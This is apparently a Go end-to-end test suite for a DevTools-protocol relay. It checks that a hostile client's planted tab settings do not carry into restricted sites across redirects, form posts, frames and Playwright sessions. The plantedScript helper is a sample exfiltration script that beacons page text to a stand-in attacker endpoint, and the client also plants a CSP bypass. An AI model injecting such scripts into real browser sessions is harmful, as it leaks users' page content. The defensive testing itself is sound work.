package e2e

import (
	"context"
	"encoding/json"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/cdprelay/cdprelay/denylist"
	"github.com/cdprelay/cdprelay/internal/cdptest"
	"github.com/cdprelay/cdprelay/internal/testenv"
)

// What a client sets up on its tab while the tab is on a full site — a
// script for new documents, a binding, headers and a user agent for its
// requests, emulation, a bypassed content security policy — acts on every
// page the tab shows later, wherever the tab goes. A hostile client sets
// everything up on a full site and has the tab taken to a blind or
// read-only one, by every way a page can send its tab on: HTTP redirects of
// every kind, a Refresh header, a meta refresh, a script, a form post, a
// link the page clicks, and the person's own navigation. What counts is
// what the sites received and what the person's page shows, never the
// relay's words.

// plantedSetting is a setting the client makes on its full tab, and how
// the person sees on a page whether it is in force there.
type plantedSetting struct {
	method string
	params map[string]any
	// probe is evaluated by the person on the page; in says whether its
	// value shows the setting in force. "" when the effect is looked for
	// elsewhere (on the server, for headers).
	probe string
	in    func(v string) bool
	// keptReadOnly: a read-only page keeps it (how the page is shown).
	keptReadOnly bool
}

// plantedScript is the client's script for new documents: it marks the
// page and sends the page's content to the attacker's address.
func plantedScript() string {
	return `window.__plantedScript = 1;
addEventListener('DOMContentLoaded', () => {
  if (location.host !== ` + quote(host(env.Pages.Main)) + `) navigator.sendBeacon(` + quote(env.Pages.Main+"/tier/act/init-script") + `, document.title + ' ' + document.body.innerText);
});`
}

func plantedSettings(mark string) []plantedSetting {
	is := func(want string) func(string) bool { return func(v string) bool { return v == want } }
	return []plantedSetting{
		{method: "Network.setExtraHTTPHeaders", params: map[string]any{"headers": map[string]string{"X-Planted": mark}}},
		{method: "Network.setUserAgentOverride", params: map[string]any{"userAgent": "planted-agent " + mark},
			probe: "navigator.userAgent", in: func(v string) bool { return strings.Contains(v, "planted-agent") }},
		{method: "Page.setBypassCSP", params: map[string]any{"enabled": true}},
		{method: "Runtime.addBinding", params: map[string]any{"name": "plantedBinding"},
			probe: "typeof window.plantedBinding", in: is(`"function"`), keptReadOnly: true},
		{method: "Emulation.setTimezoneOverride", params: map[string]any{"timezoneId": "Pacific/Kiritimati"},
			probe: "Intl.DateTimeFormat().resolvedOptions().timeZone", in: is(`"Pacific/Kiritimati"`)},
		{method: "Emulation.setLocaleOverride", params: map[string]any{"locale": "fr-CA"},
			probe: "Intl.DateTimeFormat().resolvedOptions().locale", in: is(`"fr-CA"`)},
		{method: "Emulation.setDeviceMetricsOverride", params: map[string]any{"width": 401, "height": 333, "deviceScaleFactor": 1, "mobile": false},
			probe: "innerWidth", in: is("401"), keptReadOnly: true},
		{method: "Emulation.setEmulatedMedia", params: map[string]any{"features": []map[string]string{{"name": "prefers-reduced-motion", "value": "reduce"}}},
			probe: "matchMedia('(prefers-reduced-motion: reduce)').matches", in: is("true"), keptReadOnly: true},
		{method: "Emulation.setTouchEmulationEnabled", params: map[string]any{"enabled": true, "maxTouchPoints": 7},
			probe: "navigator.maxTouchPoints", in: is("7"), keptReadOnly: true},
		{method: "Emulation.setHardwareConcurrencyOverride", params: map[string]any{"hardwareConcurrency": 77},
			probe: "navigator.hardwareConcurrency", in: is("77")},
		{method: "Emulation.setDocumentCookieDisabled", params: map[string]any{"disabled": true},
			probe: "(document.cookie = 'planted=1', document.cookie.includes('planted=1'))", in: is("false")},
		// Neither of these shows to a page of this browser: they are made
		// for their lifting to be gone through.
		{method: "Emulation.setAutomationOverride", params: map[string]any{"enabled": true}},
		{method: "Network.setBlockedURLs", params: map[string]any{"urls": []string{"*/tier/api*"}},
			probe: "fetch('/tier/api').then(() => 'fetched', () => 'blocked')", in: is(`"blocked"`)},
		{method: "WebAuthn.enable", params: map[string]any{}},
		{method: "WebAuthn.addVirtualAuthenticator", params: map[string]any{"options": map[string]any{
			"protocol": "ctap2", "transport": "internal", "hasResidentKey": true, "hasUserVerification": true, "isUserVerified": true}}},
		{method: "Page.addScriptToEvaluateOnNewDocument", params: map[string]any{"source": plantedScript()},
			probe: "typeof window.__plantedScript", in: is(`"number"`)},
	}
}

// pageEnv is what the tier site said of its browser as its document
// started (testenv.TierEnv).
type pageEnv struct {
	UA, TimeZone, Locale, Binding, Script string
	Width, Touch                          int
	ReducedMotion, Cookie                 bool
}

// envAtStart waits for what the page with marker m said as it started.
func envAtStart(t *testing.T, m string) pageEnv {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for {
		if b, ok := env.Pages.TierEnv(m); ok {
			var e pageEnv
			if err := json.Unmarshal([]byte(b), &e); err != nil {
				t.Fatalf("the page's report %q: %v", b, err)
			}
			return e
		}
		if time.Now().After(deadline) {
			t.Fatalf("the page with marker %s said nothing as it started", m)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// planted lists what of the client's set-up the page was told as it
// started: read-only says what acts on the site or tells it anything;
// shown, how the page is shown and bindings.
func (e pageEnv) planted() (readOnly, shown []string) {
	if strings.Contains(e.UA, "planted-agent") {
		readOnly = append(readOnly, "user agent "+e.UA)
	}
	if e.TimeZone == "Pacific/Kiritimati" {
		readOnly = append(readOnly, "time zone")
	}
	if e.Locale == "fr-CA" {
		readOnly = append(readOnly, "locale")
	}
	if e.Script != "undefined" {
		readOnly = append(readOnly, "script for new documents")
	}
	if !e.Cookie {
		readOnly = append(readOnly, "document.cookie disabled")
	}
	if e.Width == 401 {
		shown = append(shown, "viewport")
	}
	if e.Touch == 7 {
		shown = append(shown, "touch")
	}
	if e.ReducedMotion {
		shown = append(shown, "media")
	}
	if e.Binding != "undefined" {
		shown = append(shown, "binding")
	}
	return readOnly, shown
}

// plantAll makes every setting on session and reports which Chrome took.
func (a *attacker) plantAll(session string, settings []plantedSetting) []plantedSetting {
	a.t.Helper()
	var took []plantedSetting
	for _, s := range settings {
		if _, err := a.call(session, s.method, s.params); err != nil {
			a.t.Logf("%s was refused on the full site: %v", s.method, err)
			continue
		}
		took = append(took, s)
	}
	return took
}

// carryWays are the ways a page's tab goes on from a full site to to.
// Each returns the address the client sends the tab to (on the full
// site), or "" for the person's own navigation.
var carryWays = []struct {
	name string
	via  func(to string) string
	// post: the navigation carries a form's body, which the relay cannot
	// send again once it has lifted the client's settings: it is refused.
	post bool
}{
	{"301", func(to string) string { return redirectTo(to, "301") }, false},
	{"302", func(to string) string { return redirectTo(to, "302") }, false},
	{"303", func(to string) string { return redirectTo(to, "303") }, false},
	{"307", func(to string) string { return redirectTo(to, "307") }, false},
	{"308", func(to string) string { return redirectTo(to, "308") }, false},
	{"refresh header", func(to string) string { return env.Pages.Main + "/tier/refresh?to=" + url.QueryEscape(to) }, false},
	{"meta refresh", func(to string) string { return env.Pages.Main + "/tier/meta?to=" + url.QueryEscape(to) }, false},
	{"script", func(to string) string { return env.Pages.Main + "/tier/script?to=" + url.QueryEscape(to) }, false},
	{"form post", func(to string) string { return env.Pages.Main + "/tier/post?to=" + url.QueryEscape(to) }, true},
	{"form post 307", func(to string) string {
		return env.Pages.Main + "/tier/post?to=" + url.QueryEscape(redirectTo(to, "307"))
	}, true},
	{"link click", func(to string) string { return env.Pages.Main + "/tier/click?to=" + url.QueryEscape(to) }, false},
	{"person", nil, false},
}

func redirectTo(to, code string) string {
	return env.Pages.Main + "/tier/redirect?code=" + code + "&to=" + url.QueryEscape(to)
}

// TestTierAttackCarryIntoBlind: everything the client set up on a full
// site is out of the tab before a blind site's document commits, however
// the tab got there, and is back once the tab is on a full site again.
func TestTierAttackCarryIntoBlind(t *testing.T) {
	requireEnv(t)
	useTiers(t)
	ctx := testCtx(t, 4*time.Minute)
	p := newPerson(ctx, t)
	a := newAttacker(ctx, t)
	for _, way := range carryWays {
		t.Run(way.name, func(t *testing.T) {
			a := &attacker{t: t, ctx: ctx, c: a.c}
			p := &person{t: t, ctx: ctx, c: p.c, before: p.before}
			mark := newMark()
			target, s := a.newTab(siteURL(env.Pages.Main, newMark(), false))
			defer a.call("", "Target.closeTarget", map[string]any{"targetId": target})
			probe := p.prober(target)
			// As Playwright and Puppeteer do, with the domains on that
			// some settings need.
			for _, m := range []string{"Page.enable", "Runtime.enable", "Network.enable"} {
				if _, err := a.call(s, m, nil); err != nil {
					t.Fatalf("%s: %v", m, err)
				}
			}
			took := a.plantAll(s, plantedSettings(mark))
			// Each setting shows on the next page of the full site.
			full := siteURL(env.Pages.Main, newMark(), false)
			a.call(s, "Page.navigate", map[string]any{"url": full})
			p.waitComplete(target, full)
			for _, st := range took {
				if st.probe != "" && !st.in(probe(st.probe)) {
					t.Errorf("%s did not take on the full site: %s = %s", st.method, st.probe, probe(st.probe))
				}
			}
			if r := env.Pages.Seen(env.Pages.Main, full[strings.Index(full, "m="):]); len(r) == 0 || r[0].Header.Get("X-Planted") != mark {
				t.Errorf("the full site's request went without the client's header: %v", r)
			}

			m := newMark()
			blind := siteURL(env.Pages.Third, m, false) + "&csp=1"
			from := len(a.c.Messages())
			csp := since(env.Pages.Third, "/tier/act/csp-bypassed")
			if way.via == nil {
				p.navigate(target, blind)
			} else {
				// The reply may be withheld: the tab went blind meanwhile.
				a.call(s, "Page.navigate", map[string]any{"url": way.via(blind)})
			}
			a.accessChanged(from, s, "blind")
			if way.post {
				// Refused: the form's post never reaches the blind site, and
				// the tab stays where it was.
				p.waitFor(target, "document.readyState", `"complete"`)
				settle()
				if seen := env.Pages.Seen(env.Pages.Third, "m="+m); len(seen) != 0 {
					t.Errorf("the form's post reached the blind site: %v", seen[0])
				}
				if v := probe("location.origin"); v != quote(env.Pages.Main) {
					t.Errorf("the tab is on %s", v)
				}
			} else {
				p.waitComplete(target, env.Pages.Third)
				// A beacon the page or a script sent at its load has arrived
				// by the time a round trip to the same server has.
				probe("fetch('/tier/act/round-trip').then(() => 1)")
				if len(env.Pages.Seen(env.Pages.Third, "m="+m)) == 0 {
					t.Fatalf("the blind site did not see the tab's request")
				}
			}
			seen := env.Pages.Seen(env.Pages.Third, "m="+m)
			for _, r := range seen {
				if v := r.Header.Get("X-Planted"); v != "" {
					t.Errorf("the blind site received the client's header X-Planted: %s (%s %s)", v, r.Method, r.Path)
				}
				if ua := r.Header.Get("User-Agent"); strings.Contains(ua, "planted-agent") {
					t.Errorf("the blind site received the client's user agent %q", ua)
				}
			}
			if n := csp(); n != 0 {
				t.Errorf("the blind site's content security policy was bypassed: its forbidden script ran (%d)", n)
			}
			if env.Pages.Received(testenv.TierContent(m)) {
				t.Errorf("the client's script for new documents ran on the blind site and sent its content out")
			}
			if !way.post {
				// Out of Chrome before the document started, not a moment
				// after: the page's own first script was told nothing of it.
				ro, shown := envAtStart(t, m).planted()
				if len(ro)+len(shown) > 0 {
					t.Errorf("as the blind page started, it was told of the client's %s", strings.Join(append(ro, shown...), ", "))
				}
			}
			for _, st := range took {
				if st.probe == "" || way.post {
					continue
				}
				if v := probe(st.probe); st.in(v) {
					t.Errorf("%s is in force on the blind site: %s = %s", st.method, st.probe, v)
				}
			}

			// Back on a full site, the client's set-up is back: its
			// headers on the way there, the rest once the full page has
			// committed (a script for new documents from the next one on:
			// while the blind page is there, it may not be in Chrome).
			back := siteURL(env.Pages.Main, newMark(), false)
			from = len(a.c.Messages())
			a.call(s, "Page.navigate", map[string]any{"url": back})
			a.accessChanged(from, s, "full")
			p.waitComplete(target, back)
			again := siteURL(env.Pages.Main, newMark(), false)
			a.call(s, "Page.navigate", map[string]any{"url": again})
			p.waitComplete(target, again)
			for _, st := range took {
				if st.probe != "" && !st.in(probe(st.probe)) {
					t.Errorf("%s is not back on the full site: %s = %s", st.method, st.probe, probe(st.probe))
				}
			}
			if r := env.Pages.Seen(env.Pages.Main, back[strings.Index(back, "m="):]); len(r) == 0 || r[len(r)-1].Header.Get("X-Planted") != mark {
				t.Errorf("the full site's request went without the client's header: %v", r)
			}
		})
	}
}

// prober gives the person a session of their own on targetID for the rest
// of the test, and returns what evaluating an expression there reads (an
// error's text when it fails). One session throughout: a session's end
// can reset what it did not set.
func (p *person) prober(targetID string) func(expr string) string {
	p.t.Helper()
	s := p.attach(targetID)
	p.t.Cleanup(func() { p.call("", "Target.detachFromTarget", map[string]any{"sessionId": s}) })
	return func(expr string) string {
		res, err := p.call(s, "Runtime.evaluate", map[string]any{"expression": expr, "returnByValue": true, "awaitPromise": true})
		if err != nil {
			return "error: " + err.Error()
		}
		v, err := evalValue(res)
		if err != nil {
			return "error: " + err.Error()
		}
		return v
	}
}

// TestTierAttackCarryIntoReadOnly: a read-only site the tab is sent to
// (a redirect) gets nothing of what acts on it or tells it anything —
// headers, user agent, time zone, locale, a bypassed policy, a script —
// and keeps how the page is shown (viewport, media, touch) and the
// client's bindings, which a read-only page's script may call.
func TestTierAttackCarryIntoReadOnly(t *testing.T) {
	requireEnv(t)
	useTiers(t)
	ctx := testCtx(t, 2*time.Minute)
	p := newPerson(ctx, t)
	a := newAttacker(ctx, t)
	mark := newMark()
	target, s := a.newTab(siteURL(env.Pages.Main, newMark(), false))
	defer a.call("", "Target.closeTarget", map[string]any{"targetId": target})
	probe := p.prober(target)
	for _, m := range []string{"Page.enable", "Runtime.enable", "Network.enable"} {
		a.call(s, m, nil)
	}
	took := a.plantAll(s, plantedSettings(mark))
	m := newMark()
	ro := siteURL(env.Pages.Other, m, false) + "&csp=1"
	csp := since(env.Pages.Other, "/tier/act/csp-bypassed")
	from := len(a.c.Messages())
	a.c.Send(s, "Page.navigate", map[string]any{"url": redirectTo(ro, "302")})
	a.accessChanged(from, s, "read-only")
	p.waitComplete(target, env.Pages.Other)
	probe("fetch('/tier/act/round-trip').then(() => 1)")
	seen := env.Pages.Seen(env.Pages.Other, "m="+m)
	if len(seen) == 0 {
		t.Fatal("the read-only site did not see the tab's request")
	}
	for _, r := range seen {
		if r.Header.Get("X-Planted") != "" || strings.Contains(r.Header.Get("User-Agent"), "planted-agent") {
			t.Errorf("the read-only site received the client's header or user agent: %v", r.Header)
		}
	}
	if n := csp(); n != 0 {
		t.Errorf("the read-only site's content security policy was bypassed (%d)", n)
	}
	if env.Pages.Received(testenv.TierContent(m)) {
		t.Errorf("the client's script for new documents ran on the read-only site")
	}
	acts, shown := envAtStart(t, m).planted()
	if len(acts) > 0 {
		t.Errorf("as the read-only page started, it was told of the client's %s", strings.Join(acts, ", "))
	}
	if len(shown) != 4 {
		t.Errorf("as the read-only page started, it kept only %v of how it is shown and the binding", shown)
	}
	for _, st := range took {
		if st.probe == "" {
			continue
		}
		v := probe(st.probe)
		switch {
		case st.keptReadOnly && !st.in(v):
			t.Errorf("%s is not kept on the read-only site: %s = %s", st.method, st.probe, v)
		case !st.keptReadOnly && st.in(v):
			t.Errorf("%s is in force on the read-only site: %s = %s", st.method, st.probe, v)
		}
	}
}

// TestTierCarryFormPostShownOnly: a page set up only in how it is shown
// (Playwright's own set-up: viewport, focus, media, a binding) posts a
// form into a blind site: the post goes there, and the set-up is lifted
// as soon as the page is there (the binding: nothing the page sends by it
// reaches the client).
func TestTierCarryFormPostShownOnly(t *testing.T) {
	requireEnv(t)
	useTiers(t)
	ctx := testCtx(t, 2*time.Minute)
	p := newPerson(ctx, t)
	a := newAttacker(ctx, t)
	target, s := a.newTab(siteURL(env.Pages.Main, newMark(), false))
	defer a.call("", "Target.closeTarget", map[string]any{"targetId": target})
	probe := p.prober(target)
	var shown []plantedSetting
	for _, st := range plantedSettings(newMark()) {
		if st.keptReadOnly {
			shown = append(shown, st)
		}
	}
	shown = a.plantAll(s, append(shown, plantedSetting{method: "Emulation.setFocusEmulationEnabled", params: map[string]any{"enabled": true}}))
	m := newMark()
	blind := siteURL(env.Pages.Third, m, false)
	from := len(a.c.Messages())
	a.c.Send(s, "Page.navigate", map[string]any{"url": env.Pages.Main + "/tier/post?to=" + url.QueryEscape(blind)})
	a.accessChanged(from, s, "blind")
	p.waitComplete(target, env.Pages.Third)
	if seen := env.Pages.Seen(env.Pages.Third, "m="+m); len(seen) != 1 || seen[0].Method != "POST" {
		t.Fatalf("the form's post: %v", seen)
	}
	for _, st := range shown {
		if st.probe == "" {
			continue
		}
		if st.method == "Runtime.addBinding" {
			// A post cannot be sent again, and Chrome puts a binding into
			// the new document's world as it is made while Runtime is on:
			// its global may be there, but lifted, it carries nothing to
			// the client. (What the post's page learns of it, its name,
			// the client could have put into the post itself.)
			from := a.mark()
			call := "typeof plantedBinding === 'function' && plantedBinding('" + m + "-called'), 1"
			deadline := time.Now().Add(5 * time.Second)
			for time.Now().Before(deadline) {
				probe(call)
				time.Sleep(100 * time.Millisecond)
			}
			if f := a.leaked(from, m+"-called"); f != "" {
				t.Errorf("the blind page's call of the client's binding reached the client: %s", f)
			}
			continue
		}
		deadline := time.Now().Add(5 * time.Second)
		for v := probe(st.probe); st.in(v); v = probe(st.probe) {
			if time.Now().After(deadline) {
				t.Errorf("%s is in force on the blind site: %s = %s", st.method, st.probe, v)
				break
			}
			time.Sleep(50 * time.Millisecond)
		}
	}
}

// TestTierCarryPlaywright: Playwright sets a page up on a full site (a
// header, a script for new documents, a user agent and a bypassed policy
// on a CDP session of its own); the page is sent on to a blind site by a
// redirect, a link and a script. The blind site receives none of it, and
// the full site gets its header back.
func TestTierCarryPlaywright(t *testing.T) {
	requireEnv(t)
	useTiers(t)
	tp := newTap(t)
	mark := newMark()
	ways, marks := map[string]string{}, map[string]string{}
	for name, via := range map[string]func(string) string{
		"redirect": func(to string) string { return redirectTo(to, "302") },
		"link":     func(to string) string { return env.Pages.Main + "/tier/click?to=" + url.QueryEscape(to) },
		"script":   func(to string) string { return env.Pages.Main + "/tier/script?to=" + url.QueryEscape(to) },
	} {
		marks[name] = newMark()
		ways[name] = via(siteURL(env.Pages.Third, marks[name], false) + "&csp=1")
	}
	back := siteURL(env.Pages.Main, newMark(), false)
	addresses, _ := json.Marshal(map[string]any{
		"full": siteURL(env.Pages.Main, newMark(), false), "back": back, "ways": ways, "mark": mark, "script": plantedScript(),
	})
	csp := since(env.Pages.Third, "/tier/act/csp-bypassed")
	tierScript(t, tp, "tiers.mjs", "carry", tp.endpoint(), string(addresses))
	for name, m := range marks {
		seen := env.Pages.Seen(env.Pages.Third, "m="+m)
		if len(seen) == 0 {
			t.Errorf("%s: the blind site was not reached", name)
		}
		for _, r := range seen {
			if r.Header.Get("X-Planted") != "" || strings.Contains(r.Header.Get("User-Agent"), "planted-agent") {
				t.Errorf("%s: the blind site received the client's header or user agent: %v", name, r.Header)
			}
		}
		if env.Pages.Received(testenv.TierContent(m)) {
			t.Errorf("%s: Playwright's init script ran on the blind site and sent it out", name)
		}
	}
	if n := csp(); n != 0 {
		t.Errorf("the blind site's content security policy was bypassed (%d)", n)
	}
	if r := env.Pages.Seen(env.Pages.Main, back[strings.Index(back, "m="):]); len(r) == 0 || r[0].Header.Get("X-Planted") != mark {
		t.Errorf("the full site went without Playwright's header: %v", r)
	}
}

// approvalFor waits for the approval whose text holds part, and returns
// its id.
func approvalFor(t *testing.T, part string) int64 {
	t.Helper()
	deadline := time.Now().Add(15 * time.Second)
	for {
		for _, a := range env.Relay.Default().Status().Approvals {
			if strings.Contains(a.What, part) {
				return a.ID
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("nobody was asked about %s: %+v", part, env.Relay.Default().Status().Approvals)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// TestAskAttackRedirect: with ask_domains, a navigation the client sends
// to a site that is not asked about, and that a redirect, a link or the
// page itself takes on to an asked one, is asked where it ends: held
// while the person is asked, refused if they deny, let through if they
// approve; Target.createTarget likewise.
func TestAskAttackRedirect(t *testing.T) {
	requireEnv(t)
	setPolicy(t, denylist.Config{AskDomains: []string{"127.0.0.2"}})
	ctx := testCtx(t, 2*time.Minute)
	p := newPerson(ctx, t)
	a := newAttacker(ctx, t)
	in := env.Relay.Default()
	for _, tc := range []struct {
		name    string
		via     func(to string) string
		approve bool
	}{
		{"redirect denied", func(to string) string { return redirectTo(to, "302") }, false},
		{"redirect 307 approved", func(to string) string { return redirectTo(to, "307") }, true},
		{"link denied", func(to string) string { return env.Pages.Main + "/tier/click?to=" + url.QueryEscape(to) }, false},
		{"script approved", func(to string) string { return env.Pages.Main + "/tier/script?to=" + url.QueryEscape(to) }, true},
		{"meta refresh denied", func(to string) string { return env.Pages.Main + "/tier/meta?to=" + url.QueryEscape(to) }, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			a := &attacker{t: t, ctx: ctx, c: a.c}
			p := &person{t: t, ctx: ctx, c: p.c, before: p.before}
			target, s := a.newTab(siteURL(env.Pages.Main, newMark(), false))
			defer a.call("", "Target.closeTarget", map[string]any{"targetId": target})
			m := newMark()
			asked := siteURL(env.Pages.Other, m, false)
			a.c.Send(s, "Page.navigate", map[string]any{"url": tc.via(asked)})
			id := approvalFor(t, "m="+m)
			if n := len(env.Pages.Seen(env.Pages.Other, "m="+m)); n != 0 {
				t.Fatalf("the asked site was reached before the person answered (%d)", n)
			}
			if !tc.approve {
				if err := in.Deny(id, "e2e"); err != nil {
					t.Fatal(err)
				}
				p.waitFor(target, "document.readyState", `"complete"`)
				settle()
				if n := len(env.Pages.Seen(env.Pages.Other, "m="+m)); n != 0 {
					t.Errorf("the asked site was reached after the person denied it (%d)", n)
				}
				if v := p.evalMay(target, "location.origin"); v != quote(env.Pages.Main) {
					t.Errorf("the tab is on %s", v)
				}
				return
			}
			if err := in.Approve(id, "e2e"); err != nil {
				t.Fatal(err)
			}
			p.waitComplete(target, asked)
		})
	}
	t.Run("Target.createTarget", func(t *testing.T) {
		m := newMark()
		asked := siteURL(env.Pages.Other, m, false)
		id, _ := a.c.Send("", "Target.createTarget", map[string]any{"url": redirectTo(asked, "302")})
		ask := approvalFor(t, "m="+m)
		if n := len(env.Pages.Seen(env.Pages.Other, "m="+m)); n != 0 {
			t.Fatalf("the asked site was reached before the person answered (%d)", n)
		}
		if err := in.Approve(ask, "e2e"); err != nil {
			t.Fatal(err)
		}
		rctx, cancel := context.WithTimeout(ctx, 15*time.Second)
		defer cancel()
		reply, _, err := a.c.WaitReply(rctx, id)
		if err != nil || reply.Error != nil {
			t.Fatalf("Target.createTarget: %v %s", err, reply.Raw)
		}
		var r struct{ TargetID string }
		json.Unmarshal(reply.Result, &r)
		defer a.call("", "Target.closeTarget", map[string]any{"targetId": r.TargetID})
		p.waitComplete(r.TargetID, asked)
	})
}

// TestTierAttackCarryFrame: an out-of-process frame's own session takes
// settings too (Playwright sends its headers and user agent to every
// frame's). Set up on a full site's frame, they do not reach the blind
// site the frame itself goes to.
func TestTierAttackCarryFrame(t *testing.T) {
	requireEnv(t)
	useTiers(t)
	ctx := testCtx(t, 2*time.Minute)
	a := newAttacker(ctx, t)
	target, s := a.newTab(siteURL(env.Pages.Main, newMark(), false))
	defer a.call("", "Target.closeTarget", map[string]any{"targetId": target})
	if _, err := a.call(s, "Target.setAutoAttach", map[string]any{"autoAttach": true, "waitForDebuggerOnStart": false, "flatten": true}); err != nil {
		t.Fatal(err)
	}
	from := len(a.c.Messages())
	parent := env.Pages.Main + "/tier/frame.html?src=" + url.QueryEscape(siteURL(tierHost("app"), newMark(), false))
	a.call(s, "Page.navigate", map[string]any{"url": parent})
	wctx, cancel := context.WithTimeout(ctx, 15*time.Second)
	defer cancel()
	m, _, err := a.c.WaitMessage(wctx, from, func(m cdptest.Message) bool {
		return m.Method == "Target.attachedToTarget" && m.SessionID == s && strings.Contains(string(m.Params), `"iframe"`)
	})
	if err != nil {
		t.Fatalf("the frame's session: %v", err)
	}
	var ev struct{ SessionID string }
	json.Unmarshal(m.Params, &ev)
	fs := ev.SessionID
	mark := newMark()
	for _, c := range []cdpCall{
		{"Network.enable", nil},
		{"Network.setExtraHTTPHeaders", map[string]any{"headers": map[string]string{"X-Planted": mark}}},
		{"Network.setUserAgentOverride", map[string]any{"userAgent": "planted-agent " + mark}},
		{"Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": plantedScript()}},
	} {
		if _, err := a.call(fs, c.method, c.params); err != nil {
			t.Fatalf("%s on the frame: %v", c.method, err)
		}
	}
	bm := newMark()
	blind := siteURL(tierHost("blind"), bm, false)
	a.call(fs, "Runtime.evaluate", map[string]any{"expression": "location.href = " + quote(blind)})
	deadline := time.Now().Add(10 * time.Second)
	for len(env.Pages.Seen(tierHost("blind"), "m="+bm)) == 0 {
		if time.Now().After(deadline) {
			t.Fatal("the frame did not reach the blind site")
		}
		time.Sleep(50 * time.Millisecond)
	}
	settle()
	for _, r := range env.Pages.Seen(tierHost("blind"), "m="+bm) {
		if r.Header.Get("X-Planted") != "" || strings.Contains(r.Header.Get("User-Agent"), "planted-agent") {
			t.Errorf("the blind site received the frame's header or user agent: %v", r.Header)
		}
	}
	if env.Pages.Received(testenv.TierContent(bm)) {
		t.Errorf("the frame's script for new documents ran on the blind site and sent it out")
	}
}
